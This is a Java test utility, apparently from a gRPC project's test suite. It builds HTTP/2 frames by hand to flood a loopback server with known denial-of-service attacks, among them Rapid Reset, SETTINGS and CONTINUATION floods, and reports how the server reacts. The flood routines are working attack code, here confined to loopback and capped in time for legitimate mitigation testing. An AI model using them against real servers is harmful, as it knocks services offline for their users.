package dev.grpckeepalive.test;

import java.io.BufferedOutputStream;
import java.io.DataInputStream;
import java.io.EOFException;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.atomic.AtomicLong;

import org.jspecify.annotations.Nullable;

/**
 * A hostile HTTP/2 client on a plain loopback socket, with every frame built by hand
 * ({@link Http2Frames}), for the known HTTP/2 denial-of-service patterns. It sends the
 * client preface and SETTINGS, acknowledges the server's SETTINGS, then floods frames of one
 * kind until its time or frame budget runs out or the server closes the connection. A
 * reader thread per connection drains the socket all along, so the server's writes (ACKs,
 * RST_STREAMs, GOAWAY) never block on it, and records what the server answered.
 *
 * <p>Bounded: {@link Builder#duration} (at most 60 s) and {@link Builder#maxFrames}; a
 * watchdog closes the socket at the deadline even if a write blocks. Loopback only.
 * Its threads are named {@value #THREAD_PREFIX}..., so that CPU measurements can leave them out.
 */
public final class RawHttp2Attacker {

	/** The prefix of every thread the attacker runs. */
	public static final String THREAD_PREFIX = "raw-http2-attacker";

	/** The unary method of {@link TestService}. */
	public static final String ECHO_PATH = "/dev.grpckeepalive.test.TestService/Echo";

	/**
	 * A bound on every attack: an attack that ends when the server closes its connection may be
	 * given long enough for a loaded server that reads it slowly.
	 */
	private static final Duration MAX_DURATION = Duration.ofSeconds(60);

	/** Frames written per flush: large writes, as a real flood makes them. */
	private static final int BATCH = 256;

	/** An unsolicited PING ACK payload that none of grpc-java's own PINGs uses. */
	private static final long STRAY_PING_PAYLOAD = 0x5A5A5A5A5A5A5A5AL;

	/** WINDOW_UPDATE frames per call of {@link Mode#EARNED_WINDOW_UPDATE_FLOOD}. */
	public static final int WINDOW_UPDATES_PER_CALL = 50;

	/** A gRPC message for Echo: the 5-byte prefix, then EchoRequest{text: "x"}. */
	private static final byte[] ECHO_MESSAGE = { 0, 0, 0, 0, 3, 0x0a, 0x01, 0x78 };

	/** A CONTINUATION fragment: part of a literal header field, never completed. */
	private static final byte[] CONTINUATION_FRAGMENT = new byte[16];

	/** The HTTP/2 attacks. */
	public enum Mode {

		/** HEADERS then RST_STREAM(CANCEL) at once, stream after stream (CVE-2023-44487). */
		RAPID_RESET,

		/** HEADERS to a unary method without END_STREAM, never ended, stream after stream. */
		STREAM_FLOOD,

		/** PING frames with the ACK flag set that answer no PING of the server. */
		PING_ACK_FLOOD,

		/** One stream opened, then DATA frames without payload nor END_STREAM on it (CVE-2019-9518). */
		EMPTY_DATA_FLOOD,

		/** WINDOW_UPDATE frames with an increment of 1 on the connection. */
		WINDOW_UPDATE_FLOOD,

		/**
		 * Unary calls that complete (HEADERS, then a request with END_STREAM, each answered with
		 * DATA) to earn WINDOW_UPDATE credit, with {@value #WINDOW_UPDATES_PER_CALL}
		 * WINDOW_UPDATE frames on the connection after each call.
		 */
		EARNED_WINDOW_UPDATE_FLOOD,

		/** Empty SETTINGS frames, each of which the server must acknowledge (CVE-2019-9515). */
		SETTINGS_FLOOD,

		/** HEADERS without END_HEADERS, then CONTINUATION frames that never end the block (CVE-2024-27316 and kin). */
		CONTINUATION_FLOOD

	}

	public static Builder attack(int port, Mode mode) {
		return new Builder(port, mode);
	}

	/** Settings of one attack. */
	public static final class Builder {

		private final int port;

		private final Mode mode;

		private Duration duration = Duration.ofSeconds(5);

		private long maxFrames = 100_000_000;

		private boolean reconnect;

		private String path = ECHO_PATH;

		private Builder(int port, Mode mode) {
			this.port = port;
			this.mode = mode;
			this.reconnect = mode == Mode.CONTINUATION_FLOOD;
		}

		/** How long to attack, unless the server closes first; at most 60 s. */
		public Builder duration(Duration duration) {
			if (duration.compareTo(MAX_DURATION) > 0) {
				throw new IllegalArgumentException("attacks last at most " + MAX_DURATION);
			}
			this.duration = duration;
			return this;
		}

		/** How many attack frames to send at most, over all connections. */
		public Builder maxFrames(long maxFrames) {
			this.maxFrames = maxFrames;
			return this;
		}

		/** Whether to open a new connection when the server closes one (default: only for CONTINUATION floods). */
		public Builder reconnect(boolean reconnect) {
			this.reconnect = reconnect;
			return this;
		}

		/** The method path of the HEADERS frames. */
		public Builder path(String path) {
			this.path = path;
			return this;
		}

		/** Runs the attack on the calling thread, and returns what happened. */
		public Report run() throws InterruptedException {
			return new Run(this).run();
		}

	}

	/**
	 * What one attack did and what the server answered.
	 * @param mode the attack
	 * @param framesSent attack frames written (a HEADERS+RST_STREAM pair counts as two)
	 * @param streamsOpened streams the attack opened (HEADERS frames)
	 * @param connections connections opened
	 * @param elapsed from the first connection to the end of the attack
	 * @param goAways GOAWAY frames received, in order
	 * @param firstClose when the server first closed a connection, after the start; {@code null} if it never did
	 * @param received frames received from the server, by type name
	 * @param resetsReceived RST_STREAM frames received, by error code name
	 * @param maxConcurrentStreams the server's SETTINGS_MAX_CONCURRENT_STREAMS, {@code -1} if not advertised
	 */
	public record Report(Mode mode, long framesSent, long streamsOpened, int connections, Duration elapsed,
			List<GoAway> goAways, @Nullable Duration firstClose, Map<String, Long> received,
			Map<String, Long> resetsReceived, long maxConcurrentStreams) {

		public @Nullable GoAway firstGoAway() {
			return this.goAways.isEmpty() ? null : this.goAways.get(0);
		}

		/** Attack frames per second. */
		public long framesPerSecond() {
			return (long) (this.framesSent / Math.max(this.elapsed.toNanos() / 1e9, 1e-3));
		}

		public long receivedOf(int type) {
			return this.received.getOrDefault(Http2Frames.typeName(type), 0L);
		}

		@Override
		public String toString() {
			GoAway first = firstGoAway();
			return this.mode + ": " + this.framesSent + " frames (" + framesPerSecond() + "/s), " + this.streamsOpened
					+ " streams, " + this.connections + " connections in " + this.elapsed.toMillis() + " ms; "
					+ ((first != null) ? this.goAways.size() + " GOAWAY, first " + first : "no GOAWAY") + "; "
					+ ((this.firstClose != null) ? "first close after " + this.firstClose.toMillis() + " ms"
							: "never closed")
					+ "; received " + this.received + ", RST_STREAM " + this.resetsReceived
					+ ", MAX_CONCURRENT_STREAMS " + this.maxConcurrentStreams;
		}

	}

	/**
	 * One GOAWAY as received.
	 * @param errorCode the error code
	 * @param debugData the debug data
	 * @param after since the start of the attack
	 * @param framesSentBefore attack frames written on that connection before it arrived
	 */
	public record GoAway(long errorCode, String debugData, Duration after, long framesSentBefore) {

		public String errorName() {
			return Http2Frames.errorName(this.errorCode);
		}

		@Override
		public String toString() {
			return errorName() + " '" + this.debugData + "' after " + this.after.toMillis() + " ms and "
					+ this.framesSentBefore + " frames";
		}

	}

	private static final class Run {

		private final Builder settings;

		private final long startNanos = System.nanoTime();

		private final long deadlineNanos;

		private final AtomicLong framesSent = new AtomicLong();

		private long streamsOpened;

		private int connections;

		private final List<GoAway> goAways = Collections.synchronizedList(new ArrayList<>());

		private final AtomicLong firstCloseNanos = new AtomicLong();

		private final Map<String, AtomicLong> received = new ConcurrentHashMap<>();

		private final Map<String, AtomicLong> resets = new ConcurrentHashMap<>();

		private volatile long maxConcurrentStreams = -1;

		Run(Builder settings) {
			this.settings = settings;
			this.deadlineNanos = this.startNanos + settings.duration.toNanos();
		}

		Report run() throws InterruptedException {
			do {
				Connection connection;
				try {
					connection = new Connection();
				}
				catch (IOException ex) {
					// refused or reset at once: the server's connection limit, counted as a close
					this.firstCloseNanos.compareAndSet(0, System.nanoTime());
					Thread.sleep(10);
					continue;
				}
				this.connections++;
				connection.attack();
			}
			while (this.settings.reconnect && !outOfBudget());
			return new Report(this.settings.mode, this.framesSent.get(), this.streamsOpened, this.connections,
					Duration.ofNanos(System.nanoTime() - this.startNanos), List.copyOf(this.goAways),
					(this.firstCloseNanos.get() != 0) ? Duration.ofNanos(this.firstCloseNanos.get() - this.startNanos)
							: null,
					snapshot(this.received), snapshot(this.resets), this.maxConcurrentStreams);
		}

		private boolean outOfBudget() {
			return System.nanoTime() >= this.deadlineNanos || this.framesSent.get() >= this.settings.maxFrames;
		}

		private static Map<String, Long> snapshot(Map<String, AtomicLong> counts) {
			Map<String, Long> snapshot = new TreeMap<>();
			counts.forEach((name, count) -> snapshot.put(name, count.get()));
			return snapshot;
		}

		/** One connection: the writer is the calling thread, the reader and the watchdog threads of their own. */
		private final class Connection {

			private final Socket socket;

			private final OutputStream out;

			private final Thread reader;

			private final Thread watchdog;

			private final long framesAtStart = Run.this.framesSent.get();

			private final byte[] requestHeaders;

			/** Set when either side ended the connection. */
			private volatile boolean closed;

			/** Set when the attacker itself ends the connection (deadline, budget). */
			private volatile boolean closing;

			private volatile boolean settingsToAck;

			private int openStream;

			private long windowUpdatesSinceCall;

			/** Client streams are odd, from 1 on each connection. */
			private int nextStreamId = 1;

			Connection() throws IOException {
				this.socket = new Socket();
				this.socket.connect(new InetSocketAddress(InetAddress.getLoopbackAddress(), Run.this.settings.port), 2000);
				this.socket.setTcpNoDelay(true);
				this.out = new BufferedOutputStream(this.socket.getOutputStream(), 64 * 1024);
				this.requestHeaders = Http2Frames.grpcRequestHeaders(Run.this.settings.path,
						"127.0.0.1:" + Run.this.settings.port);
				this.reader = new Thread(this::read, THREAD_PREFIX + "-reader");
				this.reader.setDaemon(true);
				this.reader.start();
				this.watchdog = new Thread(this::closeAtDeadline, THREAD_PREFIX + "-watchdog");
				this.watchdog.setDaemon(true);
				this.watchdog.start();
			}

			void attack() throws InterruptedException {
				try {
					this.out.write(Http2Frames.PREFACE);
					this.out.write(Http2Frames.settings());
					this.out.flush();
					while (!this.closed && !outOfBudget()) {
						if (this.settingsToAck) {
							this.settingsToAck = false;
							this.out.write(Http2Frames.settingsAck());
						}
						for (int i = 0; i < BATCH && !outOfBudget(); i++) {
							writeOne();
						}
						this.out.flush();
					}
				}
				catch (IOException ex) {
					if (!this.closing) {
						serverClosed();
					}
				}
				finally {
					closeSocket();
					this.reader.join(2000);
					this.watchdog.interrupt();
				}
			}

			private void writeOne() throws IOException {
				switch (Run.this.settings.mode) {
					case RAPID_RESET -> {
						int stream = newStream();
						this.out.write(Http2Frames.headers(stream, this.requestHeaders, false, true));
						this.out.write(Http2Frames.rstStream(stream, Http2Frames.CANCEL));
						Run.this.framesSent.addAndGet(2);
						return;
					}
					case STREAM_FLOOD -> this.out.write(Http2Frames.headers(newStream(), this.requestHeaders, false, true));
					case PING_ACK_FLOOD -> this.out.write(Http2Frames.ping(STRAY_PING_PAYLOAD, true));
					case EMPTY_DATA_FLOOD -> {
						if (this.openStream == 0) {
							this.openStream = newStream();
							this.out.write(Http2Frames.headers(this.openStream, this.requestHeaders, false, true));
						}
						this.out.write(Http2Frames.data(this.openStream, new byte[0], false));
					}
					case WINDOW_UPDATE_FLOOD -> this.out.write(Http2Frames.windowUpdate(0, 1));
					case EARNED_WINDOW_UPDATE_FLOOD -> {
						if (this.windowUpdatesSinceCall++ % WINDOW_UPDATES_PER_CALL == 0) {
							int stream = newStream();
							this.out.write(Http2Frames.headers(stream, this.requestHeaders, false, true));
							this.out.write(Http2Frames.data(stream, ECHO_MESSAGE, true));
						}
						this.out.write(Http2Frames.windowUpdate(0, 1));
					}
					case SETTINGS_FLOOD -> this.out.write(Http2Frames.settings());
					case CONTINUATION_FLOOD -> {
						if (this.openStream == 0) {
							this.openStream = newStream();
							// the first field, then the start of a second one that the CONTINUATIONs never finish
							this.out.write(Http2Frames.headers(this.openStream, new byte[] { (byte) 0x83, 0x00, 0x7F, 0x7F },
									false, false));
						}
						this.out.write(Http2Frames.continuation(this.openStream, CONTINUATION_FRAGMENT, false));
					}
				}
				Run.this.framesSent.incrementAndGet();
			}

			private int newStream() {
				int stream = this.nextStreamId;
				this.nextStreamId += 2;
				Run.this.streamsOpened++;
				return stream;
			}

			private void read() {
				try {
					DataInputStream in = new DataInputStream(this.socket.getInputStream());
					while (true) {
						Http2Frames.Frame frame = Http2Frames.read(in);
						count(Run.this.received, Http2Frames.typeName(frame.type()));
						if (frame.type() == Http2Frames.SETTINGS && !frame.hasFlag(Http2Frames.FLAG_ACK)) {
							this.settingsToAck = true;
							long max = frame.setting(Http2Frames.SETTINGS_MAX_CONCURRENT_STREAMS);
							if (max >= 0) {
								Run.this.maxConcurrentStreams = max;
							}
						}
						else if (frame.type() == Http2Frames.RST_STREAM) {
							count(Run.this.resets, Http2Frames.errorName(frame.errorCode()));
						}
						else if (frame.type() == Http2Frames.GOAWAY) {
							Run.this.goAways.add(new GoAway(frame.errorCode(), frame.debugData(),
									Duration.ofNanos(System.nanoTime() - Run.this.startNanos),
									Run.this.framesSent.get() - this.framesAtStart));
						}
					}
				}
				catch (EOFException ex) {
					serverClosed();
				}
				catch (IOException ex) {
					// a reset from the server, or our own close at the deadline
					if (!this.closing) {
						serverClosed();
					}
				}
			}

			private void serverClosed() {
				Run.this.firstCloseNanos.compareAndSet(0, System.nanoTime());
				this.closed = true;
			}

			private void closeAtDeadline() {
				try {
					Thread.sleep(Math.max(1, (Run.this.deadlineNanos - System.nanoTime()) / 1_000_000));
					closeSocket();
				}
				catch (InterruptedException ex) {
					// the connection ended first
				}
			}

			private void closeSocket() {
				this.closing = true;
				this.closed = true;
				try {
					this.socket.close();
				}
				catch (IOException ex) {
					// already closed
				}
			}

		}

		private static void count(Map<String, AtomicLong> counts, String name) {
			counts.computeIfAbsent(name, (key) -> new AtomicLong()).incrementAndGet();
		}

	}

}
